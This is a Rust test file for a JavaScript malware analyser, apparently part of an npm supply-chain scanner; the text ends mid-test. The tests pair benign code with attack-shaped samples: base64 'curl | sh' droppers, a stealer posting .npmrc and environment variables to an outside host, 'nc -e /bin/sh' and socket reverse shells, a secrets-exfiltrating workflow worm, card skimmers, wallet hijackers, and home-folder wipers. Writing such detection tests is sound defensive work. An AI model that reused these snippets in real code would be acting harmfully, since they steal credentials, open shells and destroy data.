//! The JavaScript analyser on code shaped like real npm attacks, and on benign
//! look-alikes.

use customs_analyze::{BehaviourKind as K, javascript};

fn facts(src: &str) -> Vec<(K, bool, String)> {
    javascript::analyze(src, "index.js")
        .behaviours
        .into_iter()
        .map(|b| (b.kind, b.top_level, b.detail))
        .collect()
}

fn kinds(src: &str) -> Vec<K> {
    let mut k: Vec<K> = facts(src).into_iter().map(|f| f.0).collect();
    k.sort();
    k.dedup();
    k
}

#[test]
fn destructured_require_and_base64_payload() {
    let src = r#"
const { exec } = require('child_process');
const cmd = Buffer.from('Y3VybCAtcyBodHRwOi8vNDUuNjEuMS4yL3ggfCBzaA==', 'base64').toString();
exec(cmd);
"#;
    let f = facts(src);
    assert!(kinds(src).contains(&K::DecodeExecute), "{f:?}");
    assert!(
        f.iter().any(|x| x.0 == K::DownloadExecute),
        "the decoded command pipes a download into sh: {f:?}"
    );
}

#[test]
fn computed_member_and_folded_require() {
    let src = "const m = require('chi' + 'ld_' + 'process'); m['ex' + 'ec']('id');\n";
    let f = facts(src);
    assert!(
        f.iter()
            .any(|x| x.0 == K::ProcessSpawn && x.2.contains("exec(): id")),
        "{f:?}"
    );
    assert!(kinds(src).contains(&K::Obfuscation));
}

#[test]
fn eval_of_atob_and_payload_analysis() {
    let src = "eval(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJ3aG9hbWkiKQ=='));\n";
    let f = facts(src);
    assert!(f.iter().any(|x| x.0 == K::DecodeExecute), "{f:?}");
    assert!(
        f.iter()
            .any(|x| x.0 == K::ProcessSpawn && x.2.contains("in the decoded payload")),
        "{f:?}"
    );
}

#[test]
fn preinstall_stealer_sends_npmrc_and_env() {
    let src = r#"
const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const body = JSON.stringify({ npmrc, env: process.env, host: os.hostname() });
const req = https.request({ hostname: 'x.oast.fun', method: 'POST' });
req.write(body);
req.end();
"#;
    let k = kinds(src);
    assert!(k.contains(&K::SecretRead), "{:?}", facts(src));
    assert!(k.contains(&K::SecretExfiltration), "{:?}", facts(src));
    assert!(k.contains(&K::SuspiciousDestination), "{:?}", facts(src));
}

#[test]
fn dropper_across_callbacks_in_an_iife() {
    let src = r#"
(function () {
  const https = require('https'), fs = require('fs'), cp = require('child_process');
  https.get('https://45.61.1.2/update', (res) => {
    const out = fs.createWriteStream('/tmp/.upd');
    res.pipe(out);
    out.on('finish', () => {
      fs.chmodSync('/tmp/.upd', 0o755);
      cp.spawn('/tmp/.upd', [], { detached: true, stdio: 'ignore' }).unref();
    });
  });
})();
"#;
    let f = facts(src);
    let k = kinds(src);
    assert!(k.contains(&K::DownloadExecute), "{f:?}");
    assert!(k.contains(&K::HiddenProcess), "{f:?}");
    // The IIFE runs at require time: its network call is top level.
    assert!(f.iter().any(|x| x.0 == K::Network && x.1), "{f:?}");
}

#[test]
fn obfuscator_io_style_is_named() {
    let mut src = String::from("var _0x4f2a=['log','exec'];(function(_0x1b2c3d,_0x5e6f7a){");
    for i in 0..30 {
        src.push_str(&format!("var _0x{:04x}a=_0x1b2c3d[{i}];", 4096 + i));
    }
    src.push_str("})(_0x4f2a,0x1a2);\n");
    assert!(kinds(&src).contains(&K::Obfuscation));
}

#[test]
fn packer_and_jsfuck() {
    let packed = "eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0 1',2,2,'a|b'.split('|'),0,{}))\n";
    let f = facts(packed);
    assert!(
        f.iter()
            .any(|x| x.0 == K::Obfuscation && x.2.contains("packer")),
        "{f:?}"
    );
    let jsfuck = format!("{}\n", "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]".repeat(100));
    assert!(kinds(&jsfuck).contains(&K::Obfuscation));
}

#[test]
fn worm_writes_workflow_and_publishes() {
    let src = r#"
const { execSync } = require('child_process');
const fs = require('fs');
fs.writeFileSync('.github/workflows/shai.yml', 'on: push\njobs:\n  x:\n    steps:\n      - run: echo ${{ toJSON(secrets) }} | curl -d @- https://x.example.invalid');
execSync('npm publish --access public');
"#;
    let f = facts(src);
    assert!(
        f.iter()
            .any(|x| x.0 == K::SelfPropagation && x.2.contains("workflow")),
        "{f:?}"
    );
    // A scaffolding command writing a build template into the project is not a worm.
    let src = "const fs = require('fs'), path = require('path');\nconst tpl = fs.readFileSync(path.join(__dirname, 'ci.yml'), 'utf8');\nfs.writeFileSync(path.join(process.cwd(), '.github', 'workflows', 'ci.yml'), tpl.replace('{{node}}', '20'));\n";
    assert!(
        !kinds(src).contains(&K::SelfPropagation),
        "{:?}",
        facts(src)
    );
}

#[test]
fn manifest_swap_after_running() {
    let src = "const fs=require('fs');fs.unlinkSync(__filename);fs.renameSync('package.md','package.json');\n";
    assert!(kinds(src).contains(&K::SelfDelete), "{:?}", facts(src));
}

#[test]
fn typescript_and_esm_imports() {
    let src = "import { execSync as run } from 'node:child_process';\nconst x: string = run('ls').toString();\n";
    let r = javascript::analyze(src, "src/cli.ts");
    assert!(r.parse_error.is_none(), "{:?}", r.parse_error);
    assert!(
        r.behaviours
            .iter()
            .any(|b| b.kind == K::ProcessSpawn && b.top_level)
    );
    assert!(r.imports.contains(&"node:child_process".to_owned()));
}

#[test]
fn broken_and_deep_files_are_notes() {
    let r = javascript::analyze("function ( {", "x.js");
    assert!(r.parse_error.is_some());
    let deep = format!("x = {}1{};", "[".repeat(100_000), "]".repeat(100_000));
    let r = javascript::analyze(&deep, "x.js");
    assert!(r.parse_error.is_some());
}

#[test]
fn oversized_code_is_noted_not_parsed() {
    let huge = "a".repeat(customs_analyze::MAX_PARSE_BYTES + 1);
    let r = javascript::analyze(&huge, "x.js");
    assert!(
        r.parse_error
            .as_deref()
            .is_some_and(|e| e.contains("parsing limit")),
        "{:?}",
        r.parse_error
    );
    let r = customs_analyze::python::analyze(&huge);
    assert!(
        r.parse_error
            .as_deref()
            .is_some_and(|e| e.contains("parsing limit")),
        "{:?}",
        r.parse_error
    );
}

#[test]
fn benign_library_code_stays_quiet() {
    // A build helper that spawns the compiler inside a function, a fetch wrapper, and a
    // bundler-style module wrapper.
    let src = r#"
const { spawnSync } = require('child_process');
const path = require('path');
function build(args) { return spawnSync(process.execPath, [path.join(__dirname, 'tsc.js'), ...args]); }
async function get(url) { const r = await fetch(url); return r.json(); }
module.exports = { build, get };
"#;
    let f = facts(src);
    assert!(
        f.iter().all(|x| !matches!(
            x.0,
            K::DecodeExecute | K::DownloadExecute | K::SecretExfiltration | K::Obfuscation
        )),
        "{f:?}"
    );
    assert!(
        f.iter().all(|x| !x.1),
        "all behaviour is inside functions: {f:?}"
    );
}

#[test]
fn sinks_inside_the_arguments_of_unremarkable_calls() {
    // The outer calls name known functions that no check is about, and their arguments
    // are left unevaluated there; every call among them is judged on its own.
    let src = r#"
const path = require('path');
const fs = require('fs');
const os = require('os');
console.log(JSON.stringify(eval(Buffer.from(P, 'base64').toString())));
path.join(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'), 'x');
"#;
    let f = facts(src);
    let k = kinds(src);
    assert!(k.contains(&K::DecodeExecute), "{f:?}");
    assert!(k.contains(&K::SecretRead), "{f:?}");
    assert!(
        f.iter()
            .any(|(_, _, d)| d.contains("decoded data reaches eval()")),
        "{f:?}"
    );
}

fn has(src: &str, kind: K) -> bool {
    kinds(src).contains(&kind)
}

#[test]
fn eval_reached_through_global_lookups_and_reflect() {
    // Hex decoded with match/map/fromCharCode and run by a folded globalThis lookup.
    let hex: String = "require('child_process').exec('id')"
        .bytes()
        .map(|b| format!("{b:02x}"))
        .collect();
    let src = format!(
        "const h = '{hex}';\nglobalThis['ev' + 'al'](h.match(/../g).map((x) => String.fromCharCode(parseInt(x, 16))).join(''));\n"
    );
    let f = facts(&src);
    assert!(has(&src, K::DecodeExecute), "{f:?}");
    assert!(
        f.iter()
            .any(|x| x.0 == K::ProcessSpawn && x.2.contains("in the decoded payload")),
        "the hex payload is decoded and analysed: {f:?}"
    );
    // Reflect.construct(Function, [...]) with char codes shifted by a constant.
    let codes: Vec<String> = "require('os').hostname()"
        .bytes()
        .map(|b| (u32::from(b) + 5).to_string())
        .collect();
    let src = format!(
        "const K = [{}];\nconst F = Reflect.construct(Function, ['require', String.fromCharCode(...K.map((c) => c - 5))]);\nF(require);\n",
        codes.join(",")
    );
    assert!(has(&src, K::DecodeExecute), "{:?}", facts(&src));
    // Reflect.apply(eval, ...), eval.call, (0, eval), [].constructor.constructor,
    // Function.prototype.constructor: each reaches code execution.
    for call in [
        "Reflect.apply(eval, null, [atob(P)])",
        "eval.call(null, atob(P))",
        "(0, eval)(atob(P))",
        "[].constructor.constructor(atob(P))()",
        "new Function.prototype.constructor(atob(P))()",
        "window['Func' + 'tion'](atob(P))()",
        "String.fromCharCode.apply(null, [101]) && Reflect.construct(Function, [atob(P)])()",
    ] {
        let src = format!("const P = 'aWQ=';\n{call};\n");
        assert!(has(&src, K::DecodeExecute), "{call}: {:?}", facts(&src));
    }
    // A constant `Function` body is analysed, not called decode-execute.
    let src = "const f = Reflect.construct(Function, ['a', 'return a + 1']);\n";
    assert!(!has(src, K::DecodeExecute), "{:?}", facts(src));
    assert!(!has(src, K::DynamicExecute), "{:?}", facts(src));
}

#[test]
fn module_loader_reached_without_require() {
    for loader in [
        "process.mainModule.require",
        "globalThis['process'].mainModule['require']",
        "module.constructor._load",
        "require('module')._load",
        "(process.mainModule || module).require.bind(module)",
    ] {
        let src = format!(
            "const r = {loader};\nr('child_' + 'process').execSync('curl -s http://192.0.2.1/x | sh');\n"
        );
        let f = facts(&src);
        assert!(f.iter().any(|x| x.0 == K::ProcessSpawn), "{loader}: {f:?}");
        assert!(has(&src, K::DownloadExecute), "{loader}: {f:?}");
    }
    // Char-code names through a forwarding helper and a table of names.
    let src = r#"
const s = (...c) => String.fromCharCode(...c);
const table = { m: s(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115), v: 'spawn' };
const g = globalThis[s(112, 114, 111, 99, 101, 115, 115)];
g.mainModule.require(table.m)[table.v]('nc', ['-e', '/bin/sh', '198.51.100.4', '4444']);
"#;
    let f = facts(src);
    assert!(
        f.iter()
            .any(|x| x.0 == K::ProcessSpawn && x.2.contains("spawn(): nc -e /bin/sh 198.51.100.4")),
        "{f:?}"
    );
}

#[test]
fn data_url_imports_are_decoded_and_analysed() {
    let b64 = "aW1wb3J0IHtleGVjU3luY30gZnJvbSAnY2hpbGRfcHJvY2Vzcyc7IGV4ZWNTeW5jKCdpZCcpOw==";
    let src = format!("await import('data:text/javascript;base64,{b64}');\n");
    let r = javascript::analyze(&src, "index.mjs");
    let f: Vec<_> = r
        .behaviours
        .iter()
        .map(|b| (b.kind, b.detail.clone()))
        .collect();
    assert!(f.iter().any(|x| x.0 == K::DecodeExecute), "{f:?}");
    assert!(
        f.iter()
            .any(|x| x.0 == K::ProcessSpawn && x.1.contains("in the decoded payload")),
        "{f:?}"
    );
    let enc = "%72%65%71%75%69%72%65%28%27%63%68%69%6c%64%5f%70%72%6f%63%65%73%73%27%29%2e%65%78%65%63%28%27%69%64%27%29";
    let src = format!("const e = '{enc}';\nimport(`data:text/javascript,${{e}}`);\n");
    let f = facts(&src);
    assert!(
        f.iter()
            .any(|x| x.0 == K::ProcessSpawn && x.2.contains("in the decoded payload")),
        "{f:?}"
    );
    // An ordinary dynamic import of a package stays an import.
    let src = "const m = await import('lodash');\n";
    assert!(!has(src, K::DecodeExecute), "{:?}", facts(src));
}

#[test]
fn decoders_built_from_string_methods() {
    // rot13 through a replace callback in a helper, then reversed, reaches exec.
    let src = r#"
const r13 = (s) => s.replace(/[a-zA-Z]/g, (c) => String.fromCharCode((c <= 'Z' ? 90 : 122) >= (c = c.charCodeAt(0) + 13) ? c : c - 26));
require('child_process').exec(r13('uf | 1.2.0.291//:cggu f- yehp'.split('').reverse().join('')));
"#;
    let f = facts(src);
    assert!(has(src, K::DecodeExecute), "{f:?}");
    assert!(
        has(src, K::DownloadExecute),
        "the rot13 text is decoded: {f:?}"
    );
    // The same with a block-bodied callback and a modulo.
    let src = "var r=function(s){return s.replace(/[a-z]/gi,function(c){var b=c<='Z'?65:97;return String.fromCharCode((c.charCodeAt(0)-b+13)%26+b)})};require('child_process').exec(r('phey uggc://192.0.2.9/k | fu'));\n";
    assert!(has(src, K::DownloadExecute), "{:?}", facts(src));
    // XOR over char codes, percent decoding, Buffer from byte values.
    let src = "const k = 7; const d = [100,99].map(c => String.fromCharCode(c ^ k)).join('');\neval(unescape('%72%65%71%75%69%72%65'));\n";
    assert!(has(src, K::DecodeExecute), "{:?}", facts(src));
    let src = "const zlib = require('zlib');\nnew Function(zlib.inflateSync(Buffer.from(B, 'base64')).toString())();\n";
    assert!(has(src, K::DecodeExecute), "{:?}", facts(src));
    // AES-decrypted data compiled as a module.
    let src = r#"
const crypto = require('crypto');
const d = crypto.createDecipheriv('aes-256-cbc', key, iv);
const code = d.update(blob, 'hex', 'utf8') + d.final('utf8');
const m = new module.constructor();
m._compile(code, 'x.js');
"#;
    assert!(has(src, K::DecodeExecute), "{:?}", facts(src));
    // Ordinary string handling stays quiet.
    let src = "const slug = (s) => s.toLowerCase().replace(/[^a-z0-9]+/g, '-');\nmodule.exports = (t) => slug(t).split('-').reverse().join('/');\n";
    let f = facts(src);
    assert!(
        f.iter()
            .all(|x| !matches!(x.0, K::DecodeExecute | K::DynamicExecute | K::Obfuscation)),
        "{f:?}"
    );
}

#[test]
fn network_callbacks_carry_downloaded_data() {
    let src = r#"
const WS = require('ws');
function link() {
  const sock = new WS('wss://c2.example.invalid/s');
  sock.on('message', (buf) => { new Function('require', String(buf))(require); });
}
module.exports = link;
"#;
    assert!(has(src, K::DownloadExecute), "{:?}", facts(src));
    let src = "const r = await fetch(u).then((x) => x.text());\nReflect.construct(Function, ['load', r])();\n";
    let f = javascript::analyze(src, "index.mjs");
    assert!(
        f.behaviours.iter().any(|b| b.kind == K::DownloadExecute),
        "{:?}",
        f.behaviours
    );
    // A response parsed as JSON and logged is not execution.
    let src = "require('https').get(u, (res) => { let b = ''; res.on('data', (d) => { b += d; }); res.on('end', () => console.log(JSON.parse(b))); });\n";
    assert!(!has(src, K::DownloadExecute), "{:?}", facts(src));
}

#[test]
fn storage_flows_within_a_function() {
    let src = r#"
const fs = require('fs'), os = require('os'), path = require('path');
function stage() {
  const p = path.join(os.tmpdir(), '.cache.js');
  fs.writeFileSync(p, Buffer.from(PAYLOAD, 'base64'));
  require(p);
}
stage();
"#;
    assert!(has(src, K::DecodeExecute), "{:?}", facts(src));
    let src = r#"
const fs = require('fs');
function stage() {
  fs.writeFileSync('/tmp/.s', Buffer.from(PAYLOAD, 'hex'));
  eval(fs.readFileSync('/tmp/.s', 'utf8'));
}
"#;
    assert!(has(src, K::DecodeExecute), "{:?}", facts(src));
    // A config file written and read back is not code.
    let src = "const fs=require('fs');function save(c){fs.writeFileSync('cfg.json', JSON.stringify(c));return JSON.parse(fs.readFileSync('cfg.json','utf8'));}\n";
    let f = facts(src);
    assert!(
        f.iter()
            .all(|x| !matches!(x.0, K::DecodeExecute | K::DownloadExecute)),
        "{f:?}"
    );
}

#[test]
fn downloaded_archive_unpacked_by_tar_is_not_run() {
    let src = r#"
const fs = require('fs'), path = require('path');
async function install(dir) {
  const res = await fetch(URL);
  fs.writeFileSync(path.join(dir, 'lib.tar.gz'), Buffer.from(await res.arrayBuffer()));
  require('child_process').execFileSync('tar', ['xzf', 'lib.tar.gz'], { cwd: dir });
}
"#;
    assert!(!has(src, K::DownloadExecute), "{:?}", facts(src));
    // The downloaded file itself made executable and run is.
    let src = r#"
const fs = require('fs');
async function install() {
  const res = await fetch(URL);
  fs.writeFileSync('/tmp/.agent', Buffer.from(await res.arrayBuffer()));
  fs.chmodSync('/tmp/.agent', 0o755);
  require('child_process').spawn('/tmp/.agent', [], { detached: true });
}
"#;
    assert!(has(src, K::DownloadExecute), "{:?}", facts(src));
}

#[test]
fn workflow_paths_mentioned_are_not_self_propagation() {
    let src = "const WORKFLOWS = '.github/workflows';\nmodule.exports = { dir: WORKFLOWS, list: () => require('fs').readdirSync(WORKFLOWS) };\n";
    assert!(!has(src, K::SelfPropagation), "{:?}", facts(src));
}

#[test]
fn browser_hijacks() {
    // fetch hooked in a file that swaps wallet addresses.
    let src = r#"
(function(){var F=window.fetch;function S(t){return t.replace(/0x[a-fA-F0-9]{40}/g,'0xATTACKER')}
window.fetch=function(){return F.apply(this,arguments).then(function(r){return r.text().then(S)})};})();
"#;
    assert!(has(src, K::BrowserHijack), "{:?}", facts(src));
    // A wallet provider's request replaced.
    let src = "if (window.ethereum) { const r = window.ethereum.request.bind(window.ethereum); window.ethereum.request = (q) => r(q); }\n";
    assert!(has(src, K::BrowserHijack), "{:?}", facts(src));
    // A copy handler that rewrites copied addresses.
    let src = r#"
document.addEventListener('copy', function (e) {
  var t = String(window.getSelection());
  var out = t.replace(/\b(bc1[a-z0-9]{39,59}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})\b/g, 'bc1qattacker');
  if (out !== t) { e.clipboardData.setData('text/plain', out); e.preventDefault(); }
});
"#;
    assert!(has(src, K::BrowserHijack), "{:?}", facts(src));
    // A skimmer: card fields, form events, a beacon.
    let src = r#"
var sel = 'input[autocomplete^=cc-], input[name*=cvv]';
document.addEventListener('submit', function () {
  var data = [].map.call(document.querySelectorAll(sel), function (i) { return i.value; }).join('|');
  navigator.sendBeacon('https://cdn.example.invalid/p', data);
});
"#;
    assert!(has(src, K::BrowserHijack), "{:?}", facts(src));
    // Benign: a fetch polyfill, an address validator, a copy button.
    let src = r#"
if (!window.fetch) { window.fetch = function (u) { return new Promise(function () {}); }; }
function isAddress(a) { return /^0x[0-9a-fA-F]{40}$/.test(a); }
function copy(t) { return navigator.clipboard.writeText(t); }
module.exports = { isAddress, copy };
"#;
    assert!(!has(src, K::BrowserHijack), "{:?}", facts(src));
}

#[test]
fn socket_piped_into_a_shell_is_a_reverse_shell() {
    let src = r#"
const net = require('net'), cp = require('child_process');
(function connect() {
  const s = net.connect(4444, '198.51.100.7', () => {
    const sh = cp.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);
    s.pipe(sh.stdin); sh.stdout.pipe(s);
  });
})();
"#;
    assert!(has(src, K::ReverseShell), "{:?}", facts(src));
    // A socket and a build step piped to the console are not.
    let src = "const net=require('net'),cp=require('child_process');const s=net.connect(80,'localhost');const p=cp.spawn('make',[]);p.stdout.pipe(process.stdout);\n";
    assert!(!has(src, K::ReverseShell), "{:?}", facts(src));
}

#[test]
fn node_eval_code_and_array_callbacks_are_followed() {
    // `node -e` with inline code: the code is analysed.
    let src = "const cp = require('child_process');\ncp.spawn(process.execPath, ['-e', \"eval(Buffer.from(P,'base64').toString())\"], { detached: true });\n";
    assert!(has(src, K::DecodeExecute), "{:?}", facts(src));
    // Secret files named in an array read in a callback and posted.
    let src = r#"
const f = require('fs'), h = require('os').homedir(), d = {};
['.npmrc', '.git-credentials'].forEach(function (n) { d[n] = f.readFileSync(h + '/' + n, 'utf8'); });
require('https').request({ host: 'x.example.invalid', method: 'POST' }).end(JSON.stringify(d));
"#;
    let k = kinds(src);
    assert!(k.contains(&K::SecretRead), "{:?}", facts(src));
    assert!(k.contains(&K::SecretExfiltration), "{:?}", facts(src));
    // A module bound in a try with a null fallback keeps its name.
    let src = "let WS; try { WS = require('ws'); } catch (e) { WS = null; }\nfunction go() { const s = new WS('wss://h.example.invalid'); s.on('message', (m) => eval(String(m))); }\n";
    assert!(has(src, K::DownloadExecute), "{:?}", facts(src));
}

#[test]
fn code_hidden_by_whitespace_is_named() {
    let src = format!(
        "module.exports = {{ a: 1 }};{}require('child_process').exec('id');\n",
        " ".repeat(300)
    );
    let f = facts(&src);
    assert!(
        f.iter()
            .any(|x| x.0 == K::Obfuscation && x.2.contains("columns to the right")),
        "{f:?}"
    );
    let src = format!(
        "module.exports = 1;\n{}require('child_process').exec('id');\n",
        "\n".repeat(800)
    );
    let f = facts(&src);
    assert!(
        f.iter()
            .any(|x| x.0 == K::Obfuscation && x.2.contains("blank lines")),
        "{f:?}"
    );
    // Indentation and a few blank lines are ordinary.
    let src = format!(
        "{}const a = 1;\n\n\n\nmodule.exports = a;\n",
        " ".repeat(200)
    );
    assert!(!has(&src, K::Obfuscation), "{:?}", facts(&src));
}

#[test]
fn parameters_shadow_outer_names() {
    // `v` outside is decoded data; the parameter `v` of `k` is not.
    let src = "let v; v = atob('aWQ=');\nfunction k(v) { try { return (0, eval)(v); } catch (e) {} }\nmodule.exports = k;\n";
    assert!(!has(src, K::DecodeExecute), "{:?}", facts(src));
}

#[test]
fn constant_code_given_to_eval_is_read() {
    // Constant code runs as if written in place.
    let src =
        "eval(\"require('child_process').execSync('curl -s http://payload.invalid/i | sh')\");\n";
    let f = facts(src);
    assert!(
        f.iter()
            .any(|x| x.0 == K::DownloadExecute && x.2.contains("in the code passed to eval()")),
        "{f:?}"
    );
    // Harmless constant code stays quiet.
    assert!(facts("var g = eval('this');\n").is_empty());
}

#[test]
fn code_spelled_in_escapes_is_decoded_data() {
    // `require('os').hostname()` written as \x escapes, then run.
    let src = r#"var p = "\x72\x65\x71\x75\x69\x72\x65\x28\x27\x6f\x73\x27\x29\x2e\x68\x6f\x73\x74\x6e\x61\x6d\x65\x28\x29";
new Function(p)();
"#;
    assert!(kinds(src).contains(&K::DecodeExecute), "{:?}", facts(src));
    // Escaped control characters (terminal colours) are not hiding anything.
    let ansi = r#"var c = "\u001b[31m\u001b[39m\u001b[1m\u001b[22m\u001b[2m\u001b[3m\u001b[4m\u001b[5m\u001b[7m\u001b[8m"; eval("1");"#;
    assert!(
        !kinds(ansi).contains(&K::DecodeExecute),
        "{:?}",
        facts(ansi)
    );
}

#[test]
fn an_unknown_decoder_feeding_eval() {
    let src = "const hidden = stego.decode(fs.readFileSync('cover.png'));\neval(hidden);\n";
    assert!(kinds(src).contains(&K::DecodeExecute), "{:?}", facts(src));
    // A decoder's output that is only printed.
    let quiet = "console.log(punycodeLib.decode('xn--mnchen-3ya'));\n";
    assert!(!kinds(quiet).contains(&K::DecodeExecute));
}

#[test]
fn node_modules_as_globals_in_node_e_code() {
    // `node -e` code sees `child_process` without requiring it.
    let src = "child_process.execSync('curl -fsSL http://payload.invalid/a.sh | sh');\n";
    assert!(kinds(src).contains(&K::DownloadExecute), "{:?}", facts(src));
}

#[test]
fn string_array_rotation_and_commands_in_char_codes() {
    let rotation = "var a = f(); while (!![]) { try { if (g()) break; a['push'](a['shift']()); } catch (e) { a['push'](a['shift']()); } }\n";
    assert!(
        facts(rotation)
            .iter()
            .any(|x| x.0 == K::Obfuscation && x.2.contains("obfuscator.io")),
        "{:?}",
        facts(rotation)
    );
    // A queue rotated by hand, with ordinary property access.
    assert!(facts("const q = [1, 2, 3]; q.push(q.shift());\n").is_empty());
    // "wget http://x.invalid" in character codes.
    let codes = "var c = String.fromCharCode(119, 103, 101, 116, 32, 104, 116, 116, 112, 58, 47, 47, 120, 46, 105, 110, 118, 97, 108, 105, 100);\n";
    assert!(
        facts(codes)
            .iter()
            .any(|x| x.0 == K::Obfuscation && x.2.contains("hidden in character codes")),
        "{:?}",
        facts(codes)
    );
    // Letters from char codes that are neither a URL nor a command.
    let letters =
        "var s = String.fromCharCode(72, 101, 108, 108, 111, 44, 32, 119, 111, 114, 108, 100);\n";
    assert!(
        !kinds(letters).contains(&K::Obfuscation),
        "{:?}",
        facts(letters)
    );
}

#[test]
fn secrets_inside_an_object_and_vm_sandbox_globals() {
    // The environment as one property of the body.
    let src = "const http = require('http');\nconst r = http.request({ host: 'c.example.invalid', method: 'POST' });\nr.end(JSON.stringify({ env: process.env, cwd: process.cwd() }));\n";
    assert!(
        kinds(src).contains(&K::SecretExfiltration),
        "{:?}",
        facts(src)
    );
    // Constant code run in a sandbox whose globals are the environment and https.
    let vm = r#"const vm = require('vm');
const code = ['var b = JSON.stringify(env);', 'var q = https.request({ host: "c.example.invalid", method: "POST" });', 'q.end(b);'].join('\n');
vm.runInNewContext(code, { env: process.env, https: require('https'), JSON });
"#;
    assert!(
        facts(vm)
            .iter()
            .any(|x| x.0 == K::SecretExfiltration && x.2.contains("vm.runInNewContext")),
        "{:?}",
        facts(vm)
    );
    // Spawning with the environment passes it to a child, it sends nothing.
    let spawn = "const { spawn } = require('child_process');\nspawn('node', ['build.js'], { env: process.env, stdio: 'inherit' });\n";
    assert!(
        !kinds(spawn).contains(&K::SecretExfiltration),
        "{:?}",
        facts(spawn)
    );
}

#[test]
fn a_credential_path_handed_to_a_helper_is_read() {
    let src = "const os = require('os'); const path = require('path'); const fs = require('fs');\nconst out = {};\nfunction grab(p) { try { out[p] = fs.readFileSync(p, 'utf8'); } catch (e) {} }\ngrab(path.join(os.homedir(), '.ssh', 'id_rsa'));\n";
    assert!(
        facts(src)
            .iter()
            .any(|x| x.0 == K::SecretRead && x.2.contains("to a function of the package")),
        "{:?}",
        facts(src)
    );
    // Ordinary paths handed to helpers.
    let quiet = "const path = require('path');\nfunction load(p) { return require(p); }\nload(path.join(__dirname, 'lib', 'config.json'));\n__webpack_require__('./dist/server/web/cookies.js');\n";
    assert!(!kinds(quiet).contains(&K::SecretRead), "{:?}", facts(quiet));
}

#[test]
fn preloads_written_into_the_users_npmrc_are_persistence() {
    let src = "const fs = require('fs'); const os = require('os'); const path = require('path');\nconst rc = path.join(os.homedir(), '.npmrc');\nfs.appendFileSync(rc, `\\nnode-options=--require ${path.join(os.homedir(), '.h.js')}\\n`);\n";
    assert!(kinds(src).contains(&K::Persistence), "{:?}", facts(src));
    // A registry setting written there runs nothing.
    let quiet = "const fs = require('fs'); const os = require('os'); const path = require('path');\nfs.appendFileSync(path.join(os.homedir(), '.npmrc'), 'registry=https://npm.example.invalid/\\n');\n";
    assert!(
        !kinds(quiet).contains(&K::Persistence),
        "{:?}",
        facts(quiet)
    );
}

#[test]
fn download_by_one_command_run_by_another() {
    // PowerShell fetches a program; a second call starts it.
    let two_commands = r#"
        const cp = require('node:child_process');
        cp.execSync(`powershell -NoProfile -Command "(New-Object Net.WebClient).DownloadFile('http://198.51.100.7/u.exe', 'u.exe')"`);
        cp.spawn('u.exe', [], { stdio: 'ignore' });
    "#;
    assert!(
        kinds(two_commands).contains(&K::DownloadExecute),
        "{:?}",
        facts(two_commands)
    );
    // curl saves a file; node makes it executable, in a function the module calls.
    let chmod = r"
        const { execSync } = require('child_process');
        const fs = require('fs');
        function fetchTool() {
          execSync('curl -sSo /tmp/.cache-tool http://198.51.100.7/t');
          fs.chmodSync('/tmp/.cache-tool', 0o755);
        }
        fetchTool();
    ";
    assert!(
        kinds(chmod).contains(&K::DownloadExecute),
        "{:?}",
        facts(chmod)
    );
    // Downloading an archive and unpacking it runs nothing that was downloaded.
    let unpack = r"
        const { execSync } = require('child_process');
        execSync('curl -sSLo node.tar.gz https://example.invalid/node.tar.gz');
        execSync('tar -xzf node.tar.gz -C vendor');
    ";
    assert!(
        !kinds(unpack).contains(&K::DownloadExecute),
        "{:?}",
        facts(unpack)
    );
    // A download that nothing runs is only a download.
    let only = r"
        require('child_process').execSync('curl -o data.json https://example.invalid/data.json');
        console.log(require('fs').readFileSync('data.json', 'utf8'));
    ";
    assert!(
        !kinds(only).contains(&K::DownloadExecute),
        "{:?}",
        facts(only)
    );
}

#[test]
fn flows_found_when_a_function_ends_belong_to_it() {
    // The write-then-run flow is judged when the function's region closes; it is the
    // function's, so a package that calls the function at import runs it then.
    let src = r"
        const https = require('https');
        const fs = require('fs');
        const { spawn } = require('child_process');
        function update() {
          https.get('https://example.invalid/agent', (res) => {
            res.pipe(fs.createWriteStream('/tmp/agent'));
            spawn('/tmp/agent', [], { detached: true });
          });
        }
        update();
    ";
    let analysed = javascript::analyze(src, "index.js");
    let flow = analysed
        .behaviours
        .iter()
        .find(|b| b.kind == K::DownloadExecute)
        .expect("download-execute");
    assert!(!flow.top_level);
    assert_ne!(flow.function, customs_analyze::reach::TOP, "{flow:?}");
}

#[test]
fn recursive_delete_of_the_home_folder_is_destruction() {
    let wiper = r"
        const fs = require('node:fs');
        const os = require('os');
        const path = require('path');
        try { fs.rmSync(path.join(os.homedir(), 'Documents'), { recursive: true, force: true }); } catch (e) {}
        require('fs-extra').removeSync(os.homedir());
    ";
    let found = facts(wiper);
    assert_eq!(
        found.iter().filter(|f| f.0 == K::Destruction).count(),
        2,
        "{found:?}"
    );
    let rimraf = "const rimraf = require('rimraf'); rimraf.sync('/');";
    assert!(
        kinds(rimraf).contains(&K::Destruction),
        "{:?}",
        facts(rimraf)
    );
    // A tool that cleans its own build output or a folder it is given.
    let clean = r"
        const fs = require('fs');
        const path = require('path');
        fs.rmSync(path.join(__dirname, 'dist'), { recursive: true, force: true });
        module.exports = (dir) => fs.rmSync(dir, { recursive: true });
        require('rimraf').sync('coverage');
    ";
    assert!(
        !kinds(clean).contains(&K::Destruction),
        "{:?}",
        facts(clean)
    );
}

#[test]
fn for_of_over_a_constant_list_stands_for_every_item() {
    let src = r"
        const fs = require('fs');
        const os = require('os');
        const path = require('path');
        const found = [];
        for (const name of ['.npmrc', '.git-credentials', '.aws/credentials']) {
          try { found.push(fs.readFileSync(path.join(os.homedir(), name), 'utf8')); } catch (e) {}
        }
        for (const dir of ['Desktop', 'Documents']) {
          fs.rmSync(path.join(os.homedir(), dir), { recursive: true, force: true });
        }
    ";
    let k = kinds(src);
    assert!(k.contains(&K::SecretRead), "{:?}", facts(src));
    // A loop over the package's own folders reads nothing secret.
    let own = r"
        const fs = require('fs');
        const path = require('path');
        for (const f of ['README.md', 'CHANGELOG.md']) {
